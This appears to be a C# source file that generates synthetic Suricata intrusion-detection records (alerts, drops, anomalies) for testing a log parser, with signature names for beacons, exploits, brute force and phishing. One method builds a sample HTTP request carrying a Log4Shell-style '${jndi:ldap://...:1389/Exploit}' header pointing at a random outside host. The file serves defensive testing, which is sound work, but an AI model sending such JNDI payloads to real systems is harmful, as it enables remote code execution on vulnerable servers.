using System.Text;
using System.Text.Json;
using Panther.Parsing.Generation;

namespace Panther.Parsing.Suricata;

/// <summary>Detection records: alerts, drops and anomalies.</summary>
public sealed partial class SuricataSampleGenerator
{
    private static readonly Signature[] Signatures =
    [
        new(2049101, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2, new("TCP", 80, "http"),
            Context.Http),
        new(2049102, "ET MALWARE Possible Beacon Checkin over HTTP", "A Network Trojan was detected", 1,
            new("TCP", 80, "http"), Context.Http),
        new(2049103, "ET EXPLOIT Possible JNDI Lookup in HTTP Header", "Attempted Administrator Privilege Gain", 1,
            new("TCP", 8080, "http"), Context.Exploit),
        new(2049104, "ET INFO Executable Download from Dotted-Quad Host", "Potential Corporate Privacy Violation", 2,
            new("TCP", 80, "http"), Context.Files),
        new(2049105, "ET DNS Query for Algorithmically Generated Domain", "Potentially Bad Traffic", 2,
            new("UDP", 53, "dns", Internal: true), Context.Dns),
        new(2049106, "ET JA3 Hash - Suspected Malware Client", "Unknown Traffic", 3, new("TCP", 443, "tls"),
            Context.Tls),
        new(2049107, "SURICATA TLS invalid record type", "Generic Protocol Command Decode", 3, new("TCP", 443, "tls"),
            Context.Tls),
        new(2049108, "ET SCAN Inbound SSH Brute Force Attempt", "Attempted Information Leak", 2,
            new("TCP", 22, "ssh"), Context.Ssh),
        new(2049109, "ET PHISHING HTML Attachment with Credential Form", "Possible Social Engineering Attempted", 1,
            new("TCP", 25, "smtp"), Context.Smtp),
        new(2049110, "ET SCAN Suspicious Inbound to PostgreSQL Port", "Potentially Bad Traffic", 2,
            new("TCP", 5432, null, Internal: true), Context.None),
        new(2049111, "GPL ICMP PING Unix", "Misc activity", 3, new("ICMP", 0, null), Context.None),
        new(2049112, "ET POLICY SMB Executable Transfer to Admin Share", "Potentially Bad Traffic", 2,
            new("TCP", 445, "smb", Internal: true), Context.None),
    ];

    private static readonly string[] DecodeEvents =
    [
        "decoder.ipv4.trunc_pkt", "decoder.tcp.invalid_optlen", "decoder.ipv6.zero_len_padn",
        "decoder.vlan.unknown_type", "decoder.udp.hlen_invalid",
    ];

    private static readonly string[] StreamEvents =
    [
        "stream.pkt_invalid_ack", "stream.3whs_synack_with_wrong_ack", "stream.fin_but_no_session",
        "stream.reassembly_overlap_different_data",
    ];

    private static readonly (string Event, string Layer)[] AppLayerEvents =
    [
        ("INVALID_RECORD_TYPE", "proto_parser"), ("APPLAYER_DETECT_PROTOCOL_ONLY_ONE_DIRECTION", "proto_detect"),
        ("REQUEST_FIELD_TOO_LONG", "proto_parser"), ("APPLAYER_MISMATCH_PROTOCOL_BOTH_DIRECTIONS", "proto_detect"),
    ];

    /// <summary>A rule: its id, message, classification, priority, the traffic it fires on and what it logs.</summary>
    private readonly record struct Signature(int Sid, string Message, string Category, int Severity,
        Service Service, Context Context);

    /// <summary>The application-layer objects an alert carries beside its rule.</summary>
    private enum Context
    {
        None,
        Http,
        Exploit,
        Files,
        Dns,
        Tls,
        Ssh,
        Smtp,
    }

    private static void WriteAlertRecord(Utf8JsonWriter writer, Random random,
        Signature signature,
        Peers peers, DateTime time)
    {
        if (random.OneIn(2))
        {
            writer.WriteString("direction", "to_server");
        }

        WriteAlert(writer, random, signature, peers, blocked: random.OneIn(10));
        switch (signature.Context)
        {
            case Context.Http:
                WriteHttp(writer, random, peers, random.Pick(Requests));
                break;
            case Context.Exploit:
                WriteHttp(writer, random, peers, ("POST", "/api/v2/session", "application/json"));
                break;
            case Context.Files:
                WriteHttp(writer, random, peers, ("GET", "/download/update.exe", "application/octet-stream"));
                writer.WriteStartArray("files");
                writer.WriteStartObject();
                WriteFileMembers(writer, random, "/download/update.exe", "PE32+ executable (GUI) x86-64");
                writer.WriteEndObject();
                writer.WriteEndArray();
                break;
            case Context.Dns:
                WriteAlertDns(writer, random);
                break;
            case Context.Tls:
                WriteTls(writer, random);
                break;
            case Context.Ssh:
                WriteSsh(writer, random);
                break;
            case Context.Smtp:
                WriteMail(writer, random, attachment: "invoice_review.html");
                break;
        }

        WriteAlertFlow(writer, random, peers, time);
        if (signature.Context == Context.Exploit)
        {
            var length = random.OneIn(4) ? 16_000 + random.Next(32_000) : 600 + random.Next(2_400);
            WriteExploitPayload(writer, random, length, peers);
        }
        else if (random.OneIn(200))
        {
            WriteExploitPayload(writer, random, 16_000 + random.Next(32_000), peers);
        }
        else if (random.OneIn(3))
        {
            WritePayload(writer, random, RandomPayload(random, 40 + random.Next(600)));
        }

        if (random.OneIn(5))
        {
            writer.WriteStartObject("metadata");
            WriteStringArray(writer, "flowbits", "ET.http.binary", "exe.download");
            writer.WriteEndObject();
        }
    }

    private static void WriteAlert(Utf8JsonWriter writer, Random random,
        Signature signature,
        Peers peers, bool blocked)
    {
        var rev = random.Next(1, 12);
        writer.WriteStartObject("alert");
        writer.WriteString("action", blocked ? "blocked" : "allowed");
        writer.WriteNumber("gid", 1);
        writer.WriteNumber("signature_id", signature.Sid);
        writer.WriteNumber("rev", rev);
        writer.WriteString("signature", signature.Message);
        writer.WriteString("category", signature.Category);
        writer.WriteNumber("severity", signature.Severity);
        if (random.OneIn(3))
        {
            WriteEndpoint(writer, "source", peers.SourceIp, peers.SourcePort);
            WriteEndpoint(writer, "target", peers.DestinationIp, peers.DestinationPort);
        }

        if (!random.OneIn(3))
        {
            writer.WriteStartObject("metadata");
            WriteStringArray(writer, "affected_product", random.OneIn(2) ? "Any" : "Windows_XP_Vista_7_8_10_Server");
            WriteStringArray(writer, "attack_target", random.OneIn(2) ? "Client_Endpoint" : "Server");
            WriteStringArray(writer, "created_at", "2025_02_14");
            WriteStringArray(writer, "deployment", "Perimeter", "Internal");
            WriteStringArray(writer, "signature_severity", signature.Severity == 1 ? "Major" : "Minor");
            WriteStringArray(writer, "updated_at", "2026_10_02");
            if (random.OneIn(2))
            {
                WriteStringArray(writer, "mitre_tactic_id", "TA0011");
                WriteStringArray(writer, "mitre_technique_id", "T1071");
            }

            writer.WriteEndObject();
        }

        if (random.OneIn(8))
        {
            var proto = signature.Service.Proto.ToLowerInvariant();
            writer.WriteString("rule",
                $"alert {proto} any any -> $HOME_NET any (msg:\"{signature.Message}\"; "
                + $"classtype:misc-activity; sid:{signature.Sid}; rev:{rev};)");
        }

        writer.WriteEndObject();
    }

    private static void WriteEndpoint(Utf8JsonWriter writer, string name, string ip, int port)
    {
        writer.WriteStartObject(name);
        writer.WriteString("ip", ip);
        if (port > 0)
        {
            writer.WriteNumber("port", port);
        }

        writer.WriteEndObject();
    }

    /// <summary>Builds the payload of an exploit attempt: a request whose header carries a JNDI lookup.</summary>
    private static void WriteExploitPayload(Utf8JsonWriter writer, Random random, int length, Peers peers)
    {
        var text = new StringBuilder(length + 4096);
        text.Append("POST /api/v2/session HTTP/1.1\r\nHost: ").Append(peers.ServerIp)
            .Append("\r\nUser-Agent: ${jndi:ldap://").Append(random.PublicIpv4()).Append(":1389/Exploit}\r\n")
            .Append("Cookie: session=");
        while (text.Length < length)
        {
            text.Append(random.Base64(3072));
        }

        text.Length = length;
        WritePayload(writer, random, Encoding.ASCII.GetBytes(text.ToString()));
    }

    private static byte[] RandomPayload(Random random, int length)
    {
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }

    /// <summary>Writes the payload of an alert, base64 and printable, with the packet now and then.</summary>
    private static void WritePayload(Utf8JsonWriter writer, Random random, byte[] payload)
    {
        var printable = string.Create(payload.Length, payload, static (chars, bytes) =>
        {
            for (var i = 0; i < chars.Length; i++)
            {
                chars[i] = bytes[i] is >= 0x20 and < 0x7f ? (char)bytes[i] : '.';
            }
        });
        writer.WriteString("payload", Convert.ToBase64String(payload));
        writer.WriteString("payload_printable", printable);
        writer.WriteNumber("payload_length", payload.Length);
        writer.WriteNumber("stream", random.OneIn(2) ? 1 : 0);
        if (random.OneIn(3))
        {
            writer.WriteString("packet", random.Base64(54 + random.Next(60)));
            writer.WriteStartObject("packet_info");
            writer.WriteNumber("linktype", 1);
            writer.WriteEndObject();
        }
    }

    private static void WriteDrop(Utf8JsonWriter writer, Random random,
        Signature signature,
        Peers peers)
    {
        var proto = peers.Service.Proto;
        writer.WriteStartObject("drop");
        writer.WriteNumber("len", random.Next(40, 1500));
        writer.WriteNumber("tos", 0);
        writer.WriteNumber("ttl", random.OneIn(2) ? 64 : random.Next(30, 128));
        writer.WriteNumber("ipid", random.Next(65536));
        if (proto == "TCP")
        {
            writer.WriteNumber("tcpseq", (long)(uint)random.Next() * 2);
            writer.WriteNumber("tcpack", (long)(uint)random.Next() * 2);
            writer.WriteNumber("tcpwin", random.Next(64, 65536));
            writer.WriteBoolean("syn", random.OneIn(3));
            writer.WriteBoolean("ack", true);
            writer.WriteBoolean("psh", random.OneIn(2));
            writer.WriteBoolean("rst", false);
            writer.WriteBoolean("urg", false);
            writer.WriteBoolean("fin", random.OneIn(5));
            writer.WriteNumber("tcpres", 0);
            writer.WriteNumber("tcpurgp", 0);
        }
        else if (proto == "UDP")
        {
            writer.WriteNumber("udplen", random.Next(16, 512));
        }
        else
        {
            writer.WriteNumber("icmp_id", random.Next(65536));
            writer.WriteNumber("icmp_seq", random.Next(1, 200));
        }

        if (random.OneIn(2))
        {
            writer.WriteString("reason", random.Next(3) switch
            {
                0 => "stream error",
                1 => "flow drop",
                _ => "rules",
            });
        }

        writer.WriteEndObject();
        if (!random.OneIn(3))
        {
            WriteAlert(writer, random, signature, peers, blocked: true);
        }

        if (random.OneIn(2))
        {
            writer.WriteStartObject("verdict");
            writer.WriteString("action", "drop");
            if (proto == "TCP" && random.OneIn(2))
            {
                WriteStringArray(writer, "reject", "tcp-reset");
                writer.WriteString("reject-target", "to_client");
            }

            writer.WriteEndObject();
        }
    }

    private static void WriteAnomaly(Utf8JsonWriter writer, Random random, Service service)
    {
        writer.WriteStartObject("anomaly");
        switch (random.Next(3))
        {
            case 0:
                writer.WriteString("type", "decode");
                writer.WriteString("event", random.Pick(DecodeEvents));
                break;
            case 1:
                writer.WriteString("type", "stream");
                writer.WriteString("event", random.Pick(StreamEvents));
                break;
            default:
                var (name, layer) = random.Pick(AppLayerEvents);
                writer.WriteString("app_proto", service.AppProto ?? "tls");
                writer.WriteString("type", "applayer");
                writer.WriteString("event", name);
                writer.WriteString("layer", layer);
                break;
        }

        if (random.OneIn(4))
        {
            writer.WriteNumber("code", random.Next(1, 300));
        }

        writer.WriteEndObject();
    }
}
